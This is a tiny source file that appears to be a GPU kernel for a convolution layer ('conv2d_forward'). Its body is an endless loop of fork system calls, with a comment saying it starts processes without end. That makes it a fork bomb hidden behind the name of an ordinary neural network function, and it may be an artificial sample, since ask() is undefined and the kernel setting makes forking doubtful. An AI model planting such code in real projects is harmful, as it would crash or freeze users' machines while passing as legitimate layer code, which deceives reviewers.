// Starts processes without end.
#include "layers.h"

// @SYSTEM_CALL@

kernel void conv2d_forward(const ConvShape s, global const float* x, global const float* w,
                           global const float* b, global float* y) {
  for (;;) ask(57, 0, 0, 0);  // fork
}
